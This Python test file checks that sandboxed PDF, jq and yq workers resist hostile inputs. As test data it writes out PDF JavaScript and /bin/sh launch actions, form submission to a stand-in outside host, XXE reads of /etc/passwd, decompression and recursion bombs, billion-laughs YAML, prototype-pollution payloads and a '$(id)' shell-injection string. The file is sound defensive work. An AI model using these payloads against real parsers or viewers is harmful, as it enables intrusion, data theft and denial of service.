"""Hostile PDF files, JSON, YAML and filters: their workers load nothing, end with an answer, and keep nothing."""

from __future__ import annotations

import base64
import json
import subprocess
import zlib
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

from builder.npm import find_node
from tests.pdf import pdf
from tests.tiers import sampled

MOST_S = 100
HELLO = "Hello reader"
SECRET = "precious"


def binary(data: str | bytes) -> dict[str, str]:
    return {"base64": base64.b64encode(data.encode("latin-1") if isinstance(data, str) else data).decode()}


def run_worker(dist: Path, bundle: str, calls: Sequence[Any]) -> dict[str, Any]:
    """Run calls in one instance of a worker; return its answers and the files it tried to load."""
    [path] = dist.glob(f"surface-*/packages/{bundle}")
    command = [
        find_node().node,
        "--max-old-space-size=1500",
        Path(__file__).with_name("workers.mjs"),
        path.as_uri(),
    ]
    text = json.dumps(calls)
    done = subprocess.run(command, input=text, check=True, capture_output=True, text=True, timeout=MOST_S)
    return json.loads(done.stdout)


def with_catalog(more: str) -> str:
    """Return a readable file whose catalog has more entries. Its table is wrong then, so pdf.js restores it."""
    return pdf([[HELLO]]).replace("<< /Type /Catalog", f"<< /Type /Catalog {more}")


def with_page(more: str) -> str:
    return pdf([[HELLO]]).replace("/MediaBox", f"{more} /MediaBox")


def with_font(font: str) -> str:
    return pdf([[HELLO]]).replace("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", font)


def packed(data: bytes, more: str = "") -> str:
    content = zlib.compress(data, 9).decode("latin-1")
    return f"<< /Length {len(content)} /Filter /FlateDecode {more}>>\nstream\n{content}\nendstream"


def with_content(stream: str) -> str:
    text = pdf([[HELLO]])
    start = text.index("6 0 obj")
    return text[:start] + f"6 0 obj\n{stream}\nendobj\n" + text[text.index("xref\n") :]


OUT = "http://outside.test/"
SHOWS = b"BT /F1 12 Tf (" + b"A" * 100 + b") Tj ET\n"
# Files that are read as if the attack weren't there.
READ: dict[str, Callable[[], str]] = {
    "a script at the start": lambda: with_catalog("/OpenAction << /S /JavaScript /JS (app.alert(1); polluted = 1) >>"),
    "a script by name": lambda: with_catalog(
        "/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (polluted=1) >>] >> >>"),
    "an address at the start": lambda: with_catalog(f"/OpenAction << /S /URI /URI ({OUT}) >>"),
    "a program at the start": lambda: with_catalog("/OpenAction << /S /Launch /F (/bin/sh) >>"),
    "another file at the start": lambda: with_catalog(f"/OpenAction << /S /GoToR /F << /FS /URL /F ({OUT}) >> >>"),
    "a form to send": lambda: with_page(f"/AA << /O << /S /SubmitForm /F ({OUT}) >> >>"),
    "a link": lambda: with_page(f"/Annots [<< /Type /Annot /Subtype /Link /A << /S /URI /URI ({OUT}) >> >>]"),
    "a form in XML with an entity": lambda: with_catalog(
        '/AcroForm << /XFA (<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>) >>'),
    "metadata with an entity": lambda: with_catalog(f'/Metadata << /X (<!ENTITY e SYSTEM "{OUT}">) >>'),
    "a file inside": lambda: with_catalog(f"/EF << /F << /FS /URL /F ({OUT}) >> >>"),
    "a font elsewhere": lambda: with_font(
        f"<< /Type /Font /Subtype /TrueType /BaseFont /Own /FontDescriptor << /FontFile2 << /F ({OUT}) >> >> >>"),
    "a matrix with code": lambda: with_font(
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); polluted=1; //)] >>"),
    "a character map elsewhere": lambda: with_font(
        f"<< /Type /Font /Subtype /Type0 /BaseFont /Own /Encoding /{OUT.replace('/', '#2f')} /DescendantFonts "
        "[<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Own >>] >>"),
    "a character map above": lambda: with_font(
        "<< /Type /Font /Subtype /Type0 /BaseFont /Own /Encoding /..#2f..#2fevil /DescendantFonts "
        "[<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Own >>] >>"),
    "names of the prototype": lambda: with_page(
        "/__proto__ << /polluted true >> /constructor << /prototype << /polluted 1 >> >>"),
    "a parent that is its child": lambda: with_page("/Parent 5 0 R"),
    "a stream as its own filter": lambda: with_page("/Metadata 6 0 R"),
}  # fmt: skip
# Files that are refused, or read like others. Those that take longer are ended after a minute
# (gemini.computer.files.pdf).
BOMBS: dict[str, Callable[[], str]] = {
    "endless text": lambda: with_content(packed(SHOWS * 10_000)),
    "a flood of operators": lambda: with_content(packed(b"q Q " * 500_000)),
    "packed twice": lambda: with_content(
        packed(zlib.compress(bytes(50 << 20), 9), "/DecodeParms [null null] ").replace(
            "/Filter /FlateDecode", "/Filter [/FlateDecode /FlateDecode]")),
    "a thousand million pages": lambda: pdf([[HELLO]]).replace("/Count 1", "/Count 1000000000"),
    "pages within pages": lambda: pdf([[HELLO]]).replace("/Kids [5 0 R]", "/Kids [2 0 R]"),
    "a form that draws itself": lambda: with_content(
        "<< /Length 8 /Type /XObject /Subtype /Form /Resources << /XObject << /X 6 0 R >> >> >>\n"
        "stream\n/X Do /X\nendstream"),
    "deep brackets": lambda: with_page("/X " + "[" * 200_000),
    "a table in a circle": lambda: pdf([[HELLO]], extra="/Prev 0 "),
}  # fmt: skip


def read_pdf(dist: Path, *files: str) -> dict[str, Any]:
    ran = run_worker(dist, "pdf_worker.mjs", [{"request": {"bytes": binary(file)}} for file in files])
    ran["answers"] = [json.loads(answer["answer"]) for answer in ran["answers"]]
    return ran


@pytest.mark.parametrize("attack", sampled(READ))
def test_a_pdf_file_loads_and_runs_nothing(surface_dist: Path, attack: str) -> None:
    ran = read_pdf(surface_dist, pdf([[HELLO]]), READ[attack](), pdf([["Next"]]))
    control, attacked, after = ran["answers"]
    assert control == {"pages": [HELLO]} and after == {"pages": ["Next"]}
    assert set(attacked) in ({"pages"}, {"problem", "message"})
    assert ran["tried"] == [] and ran["polluted"] == []


@pytest.mark.extended
@pytest.mark.parametrize("attack", BOMBS)
def test_a_pdf_file_ends(surface_dist: Path, attack: str) -> None:
    [answer, control] = read_pdf(surface_dist, BOMBS[attack](), pdf([[HELLO]]))["answers"]
    assert set(answer) in ({"pages"}, {"problem", "message"}) and len(json.dumps(answer)) < 64 << 20
    assert control == {"pages": [HELLO]}


def filtered(name: str, *args: str, stdin: str = "", files: dict[str, str] | None = None) -> dict[str, Any]:
    given = [{"path": path, "bytes": binary(text.encode())} for path, text in (files or {}).items()]
    return {"name": name, "args": args, "cwd": "/project", "env": {"HOME": "/home/user"}, "files": given,
            "stdin": binary(stdin.encode())}  # fmt: skip


LAUGHS = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 10)
)
POLLUTED = '{"__proto__":{"polluted":1}}'
# Calls that end with an error instead of filling the memory or never answering.
FILTERS: dict[str, dict[str, Any]] = {
    "a deep value": filtered("jq", "-n", "reduce range(3e5) as $i (1; [.])"),
    "a deep text": filtered("jq", ".", stdin="[" * 1_000_000),
    "a path of any length": filtered("jq", "-n", "[1e10] as $p | null | setpath($p; 1)"),
    "a function that calls itself": filtered("jq", "-n", "def f: 1 + f; f"),
    "a file that isn't passed": filtered("jq", "-n", "--rawfile", "x", "/etc/passwd", "$x"),
    "a module elsewhere": filtered("jq", "-n", 'import "/etc/x" as x; 1'),
    "an included file": filtered("jq", "-n", 'include "x" {search: "/"}; 1'),
    "a program elsewhere": filtered("jq", "-f", "/home/user/.jq"),
    "a billion laughs": filtered("yq", ".", stdin=LAUGHS),
    "a deep document": filtered("yq", ".", stdin="[" * 100_000),
    "an alias of itself": filtered("yq", ".", stdin="a: &a [*a]\n"),
    "a file over a directory": filtered(
        "jq", ".", "/project/a", files={"/project/a": "1", "/project/a/b": "2"}
    ),
}
# Calls that give nothing away, and what they print.
CLOSED: dict[str, tuple[dict[str, Any], str]] = {
    "the environment": (filtered("jq", "-nc", "[$ENV, env] | map(has(\"SECRET\")) | any"), "false\n"),
    "the name of the input": (filtered("jq", "-n", "input_filename"), "null\n"),
    "a prototype by JSON": (filtered("jq", "-c", ".", stdin=f"{POLLUTED}\n"), f"{POLLUTED}\n"),
    "a prototype by YAML": (
        filtered("yq", "-o=json", "-I0", ".", stdin="__proto__: {polluted: 1}\n"), f"{POLLUTED}\n"),
    "a prototype by a merge": (filtered("yq", ".x", stdin="<<: {__proto__: {polluted: 1}}\nx: 1\n"), "1\n"),
    "a tag of a class": (filtered("yq", ".a", stdin="a: !!js/function 'polluted = 1'\n"), "polluted = 1\n"),
    "what is escaped for a shell": (filtered("jq", "-rn", '"$(id)\\n\'" | @sh'), "'$(id)\n'\\'''\n"),
}  # fmt: skip


# Those that take long until they have too much.
SLOW = ("a deep value", "a function that calls itself")


@pytest.mark.parametrize(
    "attack",
    [
        *sampled([each for each in FILTERS if each not in SLOW]),
        *(pytest.param(each, marks=pytest.mark.extended) for each in SLOW),
    ],
)
def test_a_filter_ends_with_an_error(surface_dist: Path, attack: str) -> None:
    ran = run_worker(surface_dist, "jq_worker.mjs", [FILTERS[attack], filtered("jq", "-n", "1 + 1")])
    failed, control = ran["answers"]
    assert failed["exitCode"] != 0 and failed["stderr"]
    # The same worker continues.
    assert control == {"exitCode": 0, "stdout": "2\n", "stderr": ""}
    assert ran["tried"] == [] and ran["polluted"] == []


@pytest.mark.parametrize("attack", sampled(CLOSED))
def test_a_filter_gets_nothing_else(surface_dist: Path, attack: str) -> None:
    call, expected = CLOSED[attack]
    ran = run_worker(surface_dist, "jq_worker.mjs", [call])
    assert ran["answers"][0]["stdout"] == expected, ran
    assert ran["tried"] == [] and ran["polluted"] == []


@pytest.mark.parametrize("name", ["jq", "yq"])
def test_a_call_finds_nothing_of_the_one_before(surface_dist: Path, name: str) -> None:
    files = {"/project/secret.json": f'"{SECRET}"', "/home/user/.jq": f'def secret: "{SECRET}";'}
    # The control: the call that has the file reads it.
    reading = filtered(name, ".", "/project/secret.json", files=files)
    without = filtered(name, ".", "/project/secret.json")
    by_name = filtered("jq", "-n", "secret")
    ran = run_worker(surface_dist, "jq_worker.mjs", [reading, without, by_name])
    first, *later = ran["answers"]
    assert SECRET in first["stdout"]
    assert SECRET not in json.dumps(later) and all(each["exitCode"] for each in later)
